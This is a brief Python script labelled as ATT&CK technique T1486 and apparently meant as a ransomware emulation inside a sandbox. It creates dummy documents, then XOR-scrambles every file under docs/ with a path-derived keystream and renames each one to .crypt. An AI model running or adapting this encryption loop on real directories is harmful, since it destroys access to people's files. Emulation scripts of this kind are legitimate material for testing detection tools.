# technique: T1486
# needs: python3
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import hashlib, os
os.makedirs("docs", exist_ok=True)
for n in range(40): open(f"docs/plan-{n}.doc", "w").write(f"plan {n}, nothing new\n" * 400)
for root, _, names in os.walk("docs"):
    for name in names:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        stream = hashlib.shake_256(path.encode()).digest(len(data))
        open(path, "wb").write(bytes(a ^ b for a, b in zip(data, stream)))
        os.rename(path, path + ".crypt")
